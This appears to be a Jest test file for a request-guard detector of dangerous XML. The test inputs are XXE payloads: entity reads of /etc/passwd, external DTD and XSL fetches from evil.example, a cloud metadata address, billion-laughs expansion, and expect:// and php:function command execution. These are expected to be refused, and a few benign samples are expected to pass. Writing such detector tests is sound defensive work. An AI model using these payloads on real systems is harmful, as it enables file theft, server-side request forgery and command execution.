// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are those of template engines and loggers
import { detectXmlEntities } from '../../../../../lambdas/request-guard/threats/markup/xml-entities';
import { REFUSED, surestScore } from '../support/surest-detection';

describe('declarations of XML that reach out', () => {
  it.each([
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://evil.example/d.dtd">%d;]><r/>',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
    '<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd">',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    '<!DOCTYPE foo PUBLIC "x" "http://evil.example/x">',
    '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "expect://id">]><creds><user>&xxe;</user></creds>',
    '<!DOCTYPE a [<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;]>',
    '<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "http://169.254.169.254/">]><svg>&x;</svg>',
    "<!DOCTYPE a SYSTEM 'ftp://evil.example/a.dtd'>",
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>',
    '<!DOCTYPE a SYSTEM "\\\\evil.example\\x.dtd">',
    '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="http://evil.example/x.xsl"/></xsl:stylesheet>',
    '<xsl:value-of select="document(\'/etc/passwd\')"/>',
    "<xsl:value-of select=\"php:function('system','id')\"/>",
  ])('is seen in %j', (text) => {
    expect(surestScore(detectXmlEntities, text)).toBeGreaterThanOrEqual(REFUSED);
  });

  it.each([
    '<!DOCTYPE note SYSTEM "note.dtd"><note/>',
    '<xsl:template match="/"><xsl:value-of select="title"/></xsl:template>',
    '<xsl:include href="header.xsl"/>',
  ])('are not seen in %j', (text) => {
    expect(surestScore(detectXmlEntities, text)).toBeLessThan(REFUSED);
  });
});
